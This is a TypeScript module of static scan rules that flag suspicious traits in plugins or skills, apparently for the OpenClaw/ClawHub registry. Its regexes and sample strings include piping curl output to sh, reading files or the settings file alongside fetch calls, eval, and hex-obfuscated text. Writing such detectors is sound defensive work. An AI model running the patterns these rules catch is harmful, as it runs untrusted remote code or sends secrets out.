/** What a static rule of a registry reports, as far as this is known from what ClawHub and OpenClaw report. */
export interface ScanRule {
  finds: string;
  test: (text: string) => boolean;
  /** A text that it reports. */
  example: string;
}

const sends = /\bfetch\s*\(|\bpost\s*\(|http\.request\s*\(|new\s+WebSocket\s*\(/i;

/** A rule for each thing that neither the plugin nor the skill has a need of. */
export const scanRules: readonly ScanRule[] = [
  rule('code made from text', /\beval\s*\(|\bnew\s+Function\s*\(/, "new Function('return 1')"),
  rule('programs that are started', /\bchild_process\b/, "import { spawn } from 'node:child_process';"),
  rule('the environment', /\bprocess\.env\b/, 'spawn(program, { env: process.env })'),
  rule(
    'a socket to a literal address',
    /new\s+WebSocket\s*\(\s*["'`]wss?:/,
    "new WebSocket('ws://127.0.0.1:1')",
  ),
  rule('a token on a command line', /--token\b/, 'openclaw gateway call --token $TOKEN'),
  rule('a skill that is always there', /^\s*"?always"?:\s*true/m, 'always: true'),
  rule(
    'a program from the network',
    /\b(curl|wget)\b[^|\n]*\|\s*(ba|z)?sh\b/,
    'curl -s https://example.com | sh',
  ),
  rule('text that hides what it is', /(\\x[0-9a-f]{2}){6,}/i, '\\x61\\x62\\x63\\x64\\x65\\x66'),
  both(
    'a file that is read where something is sent',
    /\breadFile/,
    sends,
    'fetch(url, { body: readFileSync(file) })',
  ),
  both(
    'OpenClaw’s settings where something is sent',
    /openclaw\.json/,
    sends,
    "fetch(url, read('openclaw.json'))",
  ),
];

function rule(finds: string, pattern: RegExp, example: string): ScanRule {
  return { finds, example, test: (text) => pattern.test(text) };
}

/** One that needs both in the same file. */
function both(finds: string, one: RegExp, other: RegExp, example: string): ScanRule {
  return { finds, example, test: (text) => one.test(text) && other.test(text) };
}
